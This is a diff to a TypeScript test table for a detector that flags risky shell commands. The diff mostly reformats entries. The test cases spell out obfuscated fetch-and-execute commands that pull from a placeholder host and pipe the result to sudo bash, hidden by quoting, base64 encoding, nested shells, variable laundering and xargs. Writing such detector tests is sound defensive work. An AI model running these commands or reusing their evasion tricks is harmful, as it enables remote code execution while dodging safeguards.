@@ -15,12 +15,20 @@ beforeAll(async () => {
 
 const CASES: readonly (readonly [string, string, string])[] = [
   ['continuation-split', 'curl -s \\\n  https://fix.example.org/a \\\n  | sudo \\\n  bash', 'pipe-to-shell'],
-  ['quoted-program-name', "curl -s https://fix.example.org/a | 'ba'\"sh\"", 'pipe-to-shell'],
+  ['quoted-program-name', 'curl -s https://fix.example.org/a | \'ba\'"sh"', 'pipe-to-shell'],
   ['absolute-path-shell', 'wget -qO- https://fix.example.org/a | /usr/bin/sudo /bin/bash', 'pipe-to-shell'],
   ['nested-sh-c', `sudo sh -c "bash -c 'curl -s https://fix.example.org/a | sh'"`, 'pipe-to-shell'],
-  ['base64-literal', `echo ${btoa('wget -qO- https://fix.example.org/a | sh')} | base64 --decode | sudo bash`, 'decoded-payload'],
+  [
+    'base64-literal',
+    `echo ${btoa('wget -qO- https://fix.example.org/a | sh')} | base64 --decode | sudo bash`,
+    'decoded-payload',
+  ],
   ['here-string-decoded', `bash <<< "$(base64 -d <<< ${btoa('id')})"`, 'decoded-payload'],
-  ['variable-laundering', 'U=https://fix.example.org/a\nP=$(curl -s "$U")\necho "$P" | sudo bash', 'pipe-to-shell'],
+  [
+    'variable-laundering',
+    'U=https://fix.example.org/a\nP=$(curl -s "$U")\necho "$P" | sudo bash',
+    'pipe-to-shell',
+  ],
   ['xargs-wrapper', 'curl -s https://fix.example.org/a | sudo xargs -0 bash -c', 'pipe-to-shell'],
 ]
 
